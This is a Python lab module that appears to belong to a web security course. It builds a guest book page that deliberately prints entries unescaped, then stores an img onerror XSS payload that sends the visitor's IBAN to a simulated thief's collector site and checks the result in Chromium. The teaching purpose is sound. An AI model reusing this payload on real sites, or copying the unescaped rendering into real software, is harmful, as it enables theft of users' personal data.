"""A thief writes markup into a guest book, and it runs in the browser of everybody who opens the page.

The guest book is a page that a colleague has added. It prints the entries as they are: escaping, the first defence, has
failed. Only the Content Security Policy is left.
"""

from __future__ import annotations

from urllib.parse import parse_qs, urlsplit

from app.visitors import public
from tools.lessons.lab import Lab

entries: list[str] = []


@public
def guestbook() -> str:
    """Show the guest book, with what only this visitor may see."""
    return f"<!doctype html><h1>Guest book</h1><p>Your IBAN: <b>DE02 1203 0000 0000 2020 51</b></p>{''.join(entries)}"


PAGES = {"/guestbook": guestbook}


def attack(lab: Lab) -> str:
    """Return what was stolen; "" for nothing."""
    with lab.serve(PAGES) as shop, lab.evil_site() as evil:
        collector = evil.page("<h1>This is the thief's site</h1><p>The address below has your IBAN.</p>")
        entry = f"<img src=x onerror=\"location='{collector}?loot='+document.querySelector('b').innerText\">"
        print(f"The thief's entry in the guest book:\n  {entry}")
        entries[:] = [entry]
        with lab.browser() as page:
            page.goto(f"{shop.url}/guestbook")
            print("A visitor opens the guest book in Chromium.")
            page.wait_for_timeout(700)  # milliseconds for what runs after the page was loaded
            print(f"The browser is now at {page.url}")
        loot = [parse_qs(urlsplit(path).query).get("loot", [""])[0] for path in evil.requests]
    return f"The thief's server has received the IBAN {loot[0]}." if any(loot) else ""
